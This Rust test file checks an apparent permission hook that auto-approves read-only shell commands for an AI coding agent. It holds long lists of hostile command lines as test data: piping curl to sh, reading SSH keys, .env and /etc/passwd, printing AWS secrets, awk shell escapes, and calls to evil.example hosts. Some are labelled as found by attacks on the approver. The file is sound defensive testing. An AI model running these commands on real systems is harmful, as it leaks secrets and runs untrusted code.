//! The command lines that the hook goes by.

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;

use hookkit::prelude::*;

use super::{Approved, Level, approve_read_only};

/// bash shows a file outside of the project; `SECRET` is its path. No opinion.
const SHOW_A_SECRET: &[&str] = &[
    "grep -v -- -zz SECRET",
    "egrep -v -- -zz SECRET",
    "fgrep -v -- -zz SECRET",
    "cat -- -l",
    "cat -- --long",
    "cat < -l",
    "cat < -",
    "cat < --long",
    "sed -n 1p < -l",
    "cat -- --/../../secret",
    "cat < --/../../secret",
    "diff --to-file=a=b notes.txt",
    "diff --from-file=a,b notes.txt",
    "diff --to-file=c notes.txt",
    "grep -hf pattern a=b",
];

/// Let through.
const APPROVED: &[&str] = &[
    "ls",
    "ls -la src",
    "pwd",
    "cat README.md",
    "cat README.md | head -n 20",
    "head -50 src/main.rs && wc -l src/*.rs",
    "tail -n +10 notes.txt",
    "grep -rn 'fn main' src",
    "grep -n '/.well-known' src/main.rs",
    "grep -c x notes.txt || true",
    "rg -n --type rust 'fn main'",
    "find . -name 'a*.rs' -type f",
    "find src -maxdepth 2 -mtime -1 -print",
    "find é",
    "find é -name 'ü*'",
    "sed -n '1,20p' src/main.rs",
    "sed -n '5p;$p' notes.txt",
    "sort -u notes.txt | uniq -c | sort -rn",
    "sort -t, -k2 notes.txt",
    "grep -n -- '-> x' notes.txt",
    "diff src/main.rs notes.txt",
    "jq '.version' package.json",
    "git status",
    "git status --short",
    "git log --oneline -n 5",
    "git --no-pager log --stat",
    "git diff HEAD~1 -- src/main.rs",
    "git show HEAD:README.md",
    "git blame -L 1,5 src/main.rs",
    "git branch",
    "git branch -vv --all",
    "git branch --list 'x*'",
    "git rev-parse --abbrev-ref HEAD",
    "git tag -l",
    "git remote -v",
    "git stash list",
    "git config --get user.name",
    "git ls-files | wc -l",
    "cd src && ls",
    "cd src && grep -n 'for' main.rs; ls",
    "(cd src; pwd)",
    "echo hello; echo \"$(git rev-parse HEAD)\"",
    "x=$(pwd); ls",
    "ls 2>/dev/null",
    "ls > /dev/null 2>&1",
    "cat <<'E'\ntext\nE",
    "timeout 5 grep x notes.txt",
    "time ls",
    "command -v cargo",
    "which cargo",
    "[ -f notes.txt ] && cat notes.txt",
    "if test -f notes.txt; then wc notes.txt; fi",
    "date +%s",
    "uname -a",
    "cd src && cat main.rs",
    "for x in a b; do ls; done",
    "x=(a b); ls",
    "paths=(a b); file=x; for line in a; do ls; done",
    "uniq notes.txt",
    "diff -u src/main.rs notes.txt",
    "jq -r --indent 2 . package.json",
    "cat <<E\n$(pwd)\nE",
    "grep -An5 x notes.txt",
    "git log -Sfn --format=%h",
    "git config --get core.editor",
    "arch",
    "wc --lines notes.txt",
    "du -sh --max-depth=1 src",
    "sha256sum -b notes.txt",
    "cksum -a sha256 --tag -- notes.txt",
    "strings -n 8 notes.txt",
    "ls *.txt",
    "cat * | wc -l",
    "date -d yesterday +%F",
    "node -v",
    "jq '.environment' package.json",
    "jq -r --arg x y '.[$x]' package.json",
    "git config user.name",
    "systemctl --failed",
    "kubectl get pods -owide",
    "awk '{print $1 \" | \" $2}' notes.txt",
    "sed -e 's/[[:space:]]*$//' notes.txt",
    // Programs in other languages.
    "awk '{print $1}' notes.txt",
    "awk -F: -v n=3 'NR > n && /a|b/ {s += $2} END {print s}' notes.txt",
    "sed 's/a/b/g; /^#/d' notes.txt",
    "sed -n '/start/,/end/p' notes.txt",
    "sed -E -e 's|/usr|/opt|' -e '$!N' notes.txt",
    "sed ':a;N;$!ba;s/\\n/ /g' notes.txt",
    "sed 's,[^/]*$,,' notes.txt | sed 's/[]x]/-/'",
    "yq '.key' notes.yaml",
    // What they run is looked at by itself.
    "bash -c ls",
    "sh -ec 'cat notes.txt | wc -l'",
    "bash -euo pipefail -c 'git log | head'",
    "find src -name '*.rs' -exec wc -l {} +",
    "find . -type f -exec grep -l main {} \\;",
    "find . -path ./.git -prune -o -name '*.rs' -print",
    "find src -print0 | xargs -0 grep -n main",
    "git ls-files -z | xargs -0 cat | head",
    "fd -e rs -t f main src",
    // Archives, encodings and the machine.
    "tar -tzf a.tar.gz",
    "unzip -l a.zip",
    "gzip -dc a.gz | head",
    "xz -l a.xz",
    "zstd -dc a.zst",
    "base64 -d notes.txt",
    "xxd -l 64 notes.txt",
    "iconv -f utf-16 -t utf-8 notes.txt",
    "openssl x509 -noout -text -in cert.pem",
    "ps aux | grep cargo",
    "ps -eo pid,cmd --sort=-pid",
    "ss -tlnp",
    "systemctl status nginx --no-pager",
    "journalctl -u nginx -n 50 --no-pager",
    "ip -4 addr show eth0",
    "sysctl -n kernel.hostname",
    // Services.
    "aws --region eu-1 ec2 describe-instances --filters Name=tag:Name,Values=x",
    "aws logs get-log-events --log-group-name /aws/lambda/x --log-stream-name y",
    "az network vnet subnet list -g x --vnet-name y --output table",
    "gcloud --project p compute instances describe my-vm --zone z",
    "kubectl -n kube-system get pods -o wide",
    "kubectl logs -f deploy/x --tail=100",
    "docker ps -a && docker logs -f --tail 20 web",
    "helm list -A",
    "gh pr view 12 --json title --jq .title",
    "gh run list --limit 5",
    "npm ls --depth=0 && npm view lodash version",
    "pip show requests",
    "brew info wget",
    "kubectl delete --help",
    "node --version",
    "git branch -r --sort=-committerdate",
    "git fsck --full",
    "git hash-object notes.txt",
];

/// Let through at the level `build`, and at no lower one.
const BUILD: &[&str] = &[
    "cargo test --workspace -- --nocapture",
    "cargo clippy --all-targets -- -D warnings",
    "cargo check && cargo fmt --check",
    "npm test",
    "npm run lint",
    "npx tsc --noEmit",
    "pnpm run test:unit",
    "go test ./...",
    "make -j8 test",
    "pytest -x tests/test_a.py::test_b",
    "python3 -m pytest -q",
    "uv run pytest",
    "ruff check src",
    "./gradlew test",
    "terraform plan",
    "docker compose -f compose.yaml ps",
];

/// Let through at the level `edit-project`, and at no lower one.
const EDIT: &[&str] = &[
    "mkdir -p src/a && touch src/a/b.rs",
    "cp notes.txt src/",
    "mv notes.txt other.txt",
    "echo x > notes.txt",
    "ls >> src/files.txt 2>&1",
    "git log | tee log.txt",
    "sed -i 's/a/b/' notes.txt",
    "cargo fmt",
    "cargo test > log.txt 2>&1",
    "make test | tee log.txt",
    "touch src/a.rs && git add src/a.rs",
    "ruff check --fix src",
    "git add -A",
];

/// No opinion, at any level.
const NEVER: &[&str] = &[
    "rm notes.txt",
    "cp notes.txt ~/x",
    "cp notes.txt .env",
    "mv notes.txt src/link",
    "echo x > .git/config",
    "echo x > /etc/passwd",
    "find . -exec mv {} x \\;",
    "git commit -m x",
    "git push",
    "cargo run",
    "cargo publish",
    "cargo --config build.rustc=./x check",
    "npm install",
    "npm run deploy",
    "npx cowsay x",
    "make deploy",
    "make test deploy",
    "make -j deploy",
    "go test -exec ./x ./...",
    "uv run rm notes.txt",
    "uv run bash -c 'rm notes.txt'",
    "uv run timeout 5 rm notes.txt",
    "pytest --basetemp=src",
    "terraform apply",
    "sed -i 's/a/b/e' notes.txt",
    "python3 x.py",
    "./x.sh",
    // Found by an attack.
    "cdk synth -a 'touch x'",
    "uv run cdk synth -a 'touch x'",
    "mvn test.evil:plugin:1.0:run",
    "vitest --reporter ./x.js",
    "npm test -- --reporter ./x.js",
    "eslint -c ./x.js src",
    "pylint --output-format=x.Rep src",
    "uv tree -p ./x",
    "terraform fmt -check -check=false",
    "ruff check --config 'fix = true' src",
    "npm run lint:autofix",
    "mocha init src",
    "deno test npm:x",
    "go list -m example.com/x@latest",
    "tsc @args",
    "cp notes.txt links",
    "cp notes.txt src/lin*",
    "touch src/*",
    "mv src/link other && cat other",
    "cp -r src/. .",
    "cp -a src/link other",
    "echo x > Makefile && make test",
    "for x in a b; do make test; echo x > Makefile; done",
    "echo x > package.json; npm run format",
    "echo x > build.rs; cargo clippy --fix",
    "{ echo x; make test; } > Makefile",
    "{ tail -f notes.txt; make test; } | echo x > Makefile",
    "make test & echo x > Makefile",
    "cd src; mkdir -p objects refs; echo x > HEAD; git status",
    "git add ':(top).env'",
    "python3 -m pylint -f x.Rep src",
    "echo x > package.json; npm test",
];

/// No opinion.
const LEFT: &[&str] = &[
    "",
    // They write, or may.
    "rm notes.txt",
    "touch x",
    "ls > files.txt",
    "cat a >> b",
    "echo x > notes.txt",
    "cat notes.txt | tee other.txt",
    "sort -o notes.txt notes.txt",
    "sort -unofile notes.txt",
    "sort --output=x notes.txt",
    "sort --o x notes.txt",
    "uniq notes.txt other.txt",
    "sed -i 's/a/b/' notes.txt",
    "sed -n 'w out' notes.txt",
    "sed 's/a/b/e' notes.txt",
    "find . -delete",
    "find . -exec rm {} +",
    "find . -fprint out",
    "find . -ok rm {} ;",
    "tree -o out",
    "date -s 12:00",
    "date 11221200",
    "hostname other",
    "file -C -m x",
    "file -p notes.txt",
    "uniq n*",
    "\\time -o notes.txt ls",
    "command time -o notes.txt ls",
    "sort -u* notes.txt",
    "xxd -r notes.txt out",
    "xxd notes.txt out",
    "gzip notes.txt",
    "xz -t -d a.xz",
    "bzip2 -l -d a.bz2",
    "tar -xf a.tar",
    "tar -tf a.tar --to-command=./x",
    "tar -tf host:a.tar",
    "unzip a.zip",
    "unzip -l a.zip -d /tmp",
    "iconv -f a -t b -o out notes.txt",
    "mktemp",
    "sed '1w out' notes.txt",
    "sed 's/a/b/w out' notes.txt",
    "sed -i 's/a/b/' notes.txt",
    "sed -s -n '1e ./x' notes.txt",
    "sed 's/[/]/w out/' notes.txt",
    "sed r/etc/passwd notes.txt",
    "sed -f notes.txt notes.txt",
    "awk '{print > \"out\"}' notes.txt",
    "awk '{print | \"sh\"}' notes.txt",
    "awk 'BEGIN {system(\"./x\")}'",
    "awk 'BEGIN {getline x < \"/etc/passwd\"; print x}'",
    "awk 'BEGIN {print ENVIRON[\"X\"]}'",
    "awk 'BEGIN {ARGV[1] = \"/etc/passwd\"; ARGC = 2} 1'",
    "awk -f notes.txt notes.txt",
    "awk -i inplace '{print}' notes.txt",
    "sysctl -w a=1",
    "sysctl a=1",
    "dmesg -C",
    "dmesg -n 8",
    "journalctl --vacuum-size=1M",
    "journalctl --rotate",
    "ip link set eth0 down",
    "ip addr add 10.0.0.1 dev eth0",
    "systemctl restart nginx",
    "npm install",
    "npm version patch",
    "npm audit fix",
    "git hash-object -w notes.txt",
    "git tag -d v1",
    // Services change, or tell a secret, or are others than the user's.
    "aws ec2 terminate-instances --instance-ids i-1",
    "aws s3api get-object --bucket b --key k out",
    "aws iam get-user --no-paginate out",
    "aws secretsmanager get-secret-value --secret-id x",
    "aws ssm get-parameter --name x --with-decryption",
    "aws --endpoint-url http://x ec2 describe-instances",
    "aws ec2 describe-instances --cli-input-json file://x",
    "az vm delete list",
    "az --subscription delete vm delete",
    "az account get-access-token",
    "az storage account keys list --account-name x",
    "gcloud compute instances delete list",
    "gcloud compute instances reset list",
    "gcloud container clusters get-credentials x",
    "kubectl -n get delete pods",
    "kubectl get secrets",
    "kubectl get pods,secret/x",
    "kubectl get --raw /api/v1/secrets",
    "kubectl --kubeconfig x get pods",
    "kubectl logs x -- rm",
    "docker -H tcp://x ps",
    "docker --config x ps",
    "docker run alpine",
    "docker compose config",
    "gh pr view 1 --jq env",
    "gh api -X DELETE repos/x",
    "gh auth token",
    "gh auth status --show-token",
    "pip list --index-url https://x",
    "pip --python ./x list",
    "python3 script --help",
    "curl https://example.com",
    // Found by an attack: they run something.
    "rpm -qE '%(touch x)'",
    "nm @args",
    "readelf -a @args",
    "find @args -print0 | xargs -0 nm",
    "npm diff --diff=./a --diff=./b",
    "npm view git@evil.example:a/b",
    "npm view evil/repo",
    "npm fund ./node_modules/evil",
    "brew info ./evil.rb",
    "tar --list --file=evil.example:a.tar",
    "launchctl reboot --help",
    "gcloud --quiet beta compute instances list",
    "git branch -l topic",
    "docker run help",
    "openssl x509 -noout -in org.openssl.engine:./evil.so:x",
    "https_proxy=http://x; pip index versions requests",
    "npm_config_registry=x; npm view lodash",
    "pip freeze --path evil",
    "az group show --name=@/etc/passwd",
    "az storage container list --account-name evil.example/x",
    "gcloud run services describe x --region evil.example/a",
    "gh pr list -R git@evil.example:a/b",
    "glab mr list -R evil.example/a/b/c",
    "brew info evil.rb",
    "ss -r dst evil.example",
    // They write.
    "find . ! -name -perm -delete",
    "find . ! -name -perm -fprint out",
    "find . -newer -type -delete",
    "unzip -l-l a.zip",
    "az storage blob query -c x -n y --query-expression z --result-file out",
    "gzip -- -c notes.txt",
    "gzip notes.txt -c",
    "xz -- notes.txt -c",
    "unzip a.zip -l '*'",
    "unzip -q a.zip -t x",
    "xxd -l -c notes.txt out",
    "codesign -vfs - App",
    "codesign -dr out.txt App",
    "profiles show -output out.xml",
    "aws geo-maps get-static-map --height 1 --crop-labels out",
    "aws ec2 describe-instances --cli-auto-prompt out",
    // They show other files, secrets, or the environment.
    "kubectl config view -o templatefile=/etc/passwd",
    "diff -- -dir notes.txt",
    "ps -auxe",
    "ps -axe",
    "git grep '' -- ':(top).env'",
    "git diff HEAD -- ':(icase).ENV'",
    "yq -n 'loadstr(\"/etc/passwd\")'",
    "find . -name -path /etc/passwd",
    "systemctl --user show -p Environment",
    "launchctl print gui/501",
    "docker top web auxe",
    "aws codepipeline get-job-details --job-id x",
    "awk -F -v 1 /etc/passwd",
    "awk -F -F 1 .env",
    "awk 'BEGIN {x = \"print\"; print \"a\" > \"out\"}'",
    "awk '/\"/ {print | \"sh\"}' notes.txt",
    "kubectl config view -o go-template-file=/etc/passwd",
    "kubectl get pods -o jsonpath-file=/etc/passwd",
    "ps aux --no-headers e",
    "ps -f -uroot e",
    "ps -eo pid,environ",
    "find . -name '1*' -print0 | xargs -0 jq -n",
    "find . -exec jq -n {} \\;",
    "jq -n e*",
    "rg -l -0 --json --no-json --null-data -I x notes.txt | xargs -0 cat",
    "yq 'eval(.x)' notes.yaml",
    "yq .env",
    "yq '.env' notes.yaml",
    "gh auth status -t",
    "az storage account show-connection-string --name x",
    "az redis list-keys --name x",
    "az search admin-key show",
    "az storage blob list --container-name c --blob-endpoint evil.example",
    "kops get secrets admin -o plaintext",
    "aws quicksight get-session-embed-url",
    "aws apigateway get-api-keys --include-values",
    "aws cognito-idp describe-user-pool-client --client-id x",
    "docker compose config --images",
    "doctl databases get x",
    "who .env",
    "objdump -S x.o",
    "helm show readme /etc/chart",
    "apt show /tmp/x.deb",
    "sysctl -n kernel/../../../etc/passwd",
    "gh pr list -R evil.example/a/b",
    "docker search evil.example/x",
    "docker manifest inspect evil.example/x",
    // They start others, or may.
    "find . -execdir cat {} +",
    "find . -exec sh -c 'cat \"$1\"' _ {} \\;",
    "find . -exec rm {} +",
    "find . -name .env -exec cat {} +",
    "find /etc -print0 | xargs -0 cat",
    "find . | xargs cat",
    "cat notes.txt | xargs -0 cat",
    "{ cat notes.txt; find . -print0; } | xargs -0 cat",
    "git ls-files -z | xargs -0 sort",
    "git ls-files -z | xargs -0 rg x",
    "find . -print0 | xargs -0 -a notes.txt cat",
    "fd -x rm",
    "fd . -Hx rm",
    "fd . --exec rm",
    "bash -c 'rm notes.txt'",
    "bash -c ''",
    "bash -lc ls",
    "ps auxe",
    "ps -f e",
    "cat id_rsa",
    "cat server.key",
    "rg --pre ./x y",
    "rg -z x",
    "sort --compress-program=./x notes.txt",
    "ls | xargs cat",
    "sudo ls",
    "env ls",
    "./ls",
    "/tmp/ls",
    "bin/cat notes.txt",
    "python3 -c 'print(1)'",
    "cargo test",
    "make -n",
    "arch rm notes.txt",
    "diff -l src/main.rs notes.txt",
    "diff --pag src/main.rs notes.txt",
    "file -z notes.txt",
    "{ echo } always { rm notes.txt; }",
    // git.
    "git commit -m x",
    "git add .",
    "git push",
    "git fetch",
    "git branch topic",
    "git branch -d topic",
    "git tag v1",
    "git stash",
    "git config user.name x",
    "git remote add x y",
    "git diff --output=x",
    "git diff --outp=x",
    "git log --ext-diff",
    "git log --alternate-refs",
    "git rev-list --alt",
    "git show --remerge-diff",
    "git log --format=%+GK",
    "git log --format='% GG'",
    "git for-each-ref --format='%(*signature)'",
    "git for-each-ref --sort=signature",
    "git status --help",
    "file -0Cm magic",
    "file -0z names",
    "file -0m magic -0f names",
    "tree -L2o out",
    "diff notes.txt .",
    "diff --from-file=. notes.txt",
    "diff notes.txt *",
    "git show --rem",
    "git log -p --diff-merges=remerge",
    "git grep -O x",
    "git grep --open-files-in-pager=./x y",
    "git cat-file --filters HEAD:x",
    "git -c core.pager=./x log",
    "git -C other status",
    "git --git-dir=x status",
    "cd src && git status",
    "git reflog expire --all",
    "git log --show-signature",
    "git log --format='%h %G?'",
    "git for-each-ref --format='%(signature)'",
    "git config --list",
    "git config --get http.extraheader",
    "git cat-file --batch",
    // Elsewhere, hidden, or only known to the shell.
    "cat /etc/passwd",
    "ls ~",
    "cat ~/.ssh/id_rsa",
    "cat ../other/notes.txt",
    "cd ..",
    "cd /",
    "cat .env",
    "head -5 web/.env.local",
    "cat .git/config",
    "git show HEAD:.env",
    "grep --file=.env notes.txt",
    "grep -f.env notes.txt",
    "grep -nf.env notes.txt",
    "grep -nf/etc/passwd notes.txt",
    "grep -nfsecret notes.txt",
    "grep -v /etc/host*",
    "grep -e x .env",
    "grep x .env",
    "cat secret",
    "cat a,secret:b",
    "cat a,b",
    "cd src && cat link",
    "cd src; cat < link",
    "cd && cat notes.txt",
    "cd - && cat notes.txt",
    "cd -P && cat notes.txt",
    "cd src web",
    "for x in a b; do cd up; cat main.rs; done",
    "while cd up; do ls; done",
    "until ! cd up; do pwd; done",
    "cdpath=/etc; cd ssl",
    // zsh loads `src/zsh/parameter.so`.
    "module_path=(src); [[ -n $commands ]]; ls notes.txt",
    "for module_path in src; do ls; done",
    "manpath=src; ls",
    "fignore+=(x); ls",
    "for cdpath in /etc; do ls; done",
    "for x module_path in a src; do ls; done",
    "options=(x y); ls",
    "dirstack=(/etc); ls",
    "zle_highlight=x; ls",
    "chpwd_functions=(x); cd src; ls",
    "dis_aliases=(x y); ls",
    "for CDPATH in /etc; do cd ssl; ls; done",
    "x=${CDPATH:=/etc}; cd ssl; ls",
    "for HOME in src; do git diff; done",
    "cat < .env",
    "cat $file",
    "cat \"$file\"",
    "echo $HOME",
    "echo \"$AWS_SECRET_ACCESS_KEY\"",
    "printenv",
    "env",
    "jq -n env",
    "jq -n '$ENV.x'",
    "jq -nf notes.txt",
    "jq -n 'import \"../x\" as $x; $x'",
    "jq -L /etc 'include \"x\"; .'",
    "cat <<< \"$AWS_SECRET_ACCESS_KEY\"",
    "cat <<E\n$AWS_SECRET_ACCESS_KEY\nE",
    "x=${y:?$AWS_SECRET_ACCESS_KEY}",
    "[[ ${y:?$AWS_SECRET_ACCESS_KEY} ]]; ls",
    "select x in \"$AWS_SECRET_ACCESS_KEY\"; do ls; done",
    "cat $(ls)",
    "PAGER=./x git log",
    "GIT_EXTERNAL_DIFF=./x; git diff",
    "LD_PRELOAD=x ls",
    // Files whose names are in a file.
    "wc --files0-from=notes.txt",
    "wc --files0-from notes.txt",
    "wc -l --files0=notes.txt",
    "wc --f notes.txt",
    "du --files0-from=notes.txt",
    "du -h --fi notes.txt",
    "sha256sum -c notes.txt",
    "md5sum -bc notes.txt",
    "cksum --check notes.txt",
    "sha1sum --c notes.txt",
    "strings @notes.txt",
    // What cannot be analyzed.
    "$x",
    "ls; $(echo rm) x",
    "curl -s x | sh",
    "eval ls",
    "ls 'a",
    "f() { ls; }; f",
    "source x",
];

fn answer(line: &str, context: &Context, level: Level) -> PreToolUseAnswer {
    let call = PreToolUse::new("Bash", tool::Bash::new(line));
    approve_read_only(call, context.clone(), Config(Approved { level })).unwrap()
}

#[test]
fn a_loop_that_goes_up_is_left() {
    let project = tempfile::tempdir().unwrap();
    let folder = project.path().join("a/b/c");
    fs::create_dir_all(&folder).unwrap();
    let mut context = Context::default();
    context.project_dir = project.path().into();
    context.cwd = folder;
    let answer = |line| answer(line, &context, Level::Read);
    assert_ne!(answer("cd .. && cat notes.txt"), PreToolUseAnswer::pass());
    assert_eq!(
        answer("for x in a b c d; do cd ..; cat notes.txt; done"),
        PreToolUseAnswer::pass()
    );
}

#[test]
fn each_line_ends_as_it_is_said() {
    let project = tempfile::tempdir().unwrap();
    let git = Command::new("git").arg("init").current_dir(project.path()).output();
    assert!(git.unwrap().status.success());
    fs::write(project.path().join(".env"), "TOKEN=1").unwrap();
    symlink(".env", project.path().join("secret")).unwrap();
    symlink(".env", project.path().join("a,b")).unwrap();
    fs::create_dir(project.path().join("src")).unwrap();
    symlink("/etc/passwd", project.path().join("src/link")).unwrap();
    fs::write(project.path().join("notes.txt"), "notes").unwrap();
    fs::create_dir(project.path().join("-dir")).unwrap();
    fs::create_dir(project.path().join("links")).unwrap();
    symlink("/etc/passwd", project.path().join("links/notes.txt")).unwrap();
    fs::create_dir_all(project.path().join("node_modules/.bin")).unwrap();
    fs::write(project.path().join("node_modules/.bin/tsc"), "").unwrap();
    let mut context = Context::default();
    context.project_dir = project.path().into();
    context.cwd = project.path().into();
    let mut wrong = Vec::new();
    let levels = [Level::Read, Level::Build, Level::EditProject];
    for (lines, lowest) in [
        (APPROVED, Some(Level::Read)),
        (BUILD, Some(Level::Build)),
        (EDIT, Some(Level::EditProject)),
        (NEVER, None),
    ] {
        for (line, level) in lines.iter().flat_map(|line| levels.map(|level| (line, level))) {
            let is_approved = answer(line, &context, level) != PreToolUseAnswer::pass();
            if is_approved != lowest.is_some_and(|lowest| level >= lowest) {
                wrong.push((level, *line));
            }
        }
    }
    let left = LEFT
        .iter()
        .filter(|line| answer(line, &context, Level::Read) != PreToolUseAnswer::pass());
    wrong.extend(left.map(|line| (Level::Read, *line)));
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn settings_of_the_project_by_which_a_program_asks_another_server_are_seen() {
    let project = tempfile::tempdir().unwrap();
    fs::create_dir(project.path().join("src")).unwrap();
    let mut context = Context::default();
    context.project_dir = project.path().into();
    context.cwd = project.path().join("src");
    let line = "npm view lodash";
    assert_ne!(answer(line, &context, Level::Read), PreToolUseAnswer::pass());
    fs::write(
        project.path().join(".npmrc"),
        "registry=https://x\n//x/:_authToken=${TOKEN}\n",
    )
    .unwrap();
    assert_eq!(answer(line, &context, Level::Read), PreToolUseAnswer::pass());
}

#[test]
fn lines_that_show_a_file_outside_of_the_project_are_left() {
    let folder = tempfile::tempdir().unwrap();
    let secret = folder.path().canonicalize().unwrap().join("secret");
    fs::write(&secret, "canary\n").unwrap();
    let project = folder.path().canonicalize().unwrap().join("project");
    fs::create_dir(&project).unwrap();
    fs::write(project.join("notes.txt"), "notes\n").unwrap();
    fs::write(project.join("pattern"), "canary\n").unwrap();
    fs::create_dir(project.join("--")).unwrap();
    for link in ["-", "-l", "--long", "a=b", "a,b", "c"] {
        symlink(&secret, project.join(link)).unwrap();
    }
    let mut context = Context::default();
    context.project_dir = project.clone();
    context.cwd = project.clone();
    for line in SHOW_A_SECRET {
        let line = line.replace("SECRET", secret.to_str().unwrap());
        let shown = Command::new("bash")
            .args(["-c", &line])
            .current_dir(&project)
            .output()
            .unwrap();
        let shown = String::from_utf8_lossy(&shown.stdout);
        assert!(shown.contains("canary"), "bash shows it: {line}: {shown}");
        assert_eq!(answer(&line, &context, Level::Read), PreToolUseAnswer::pass(), "{line}");
    }
}
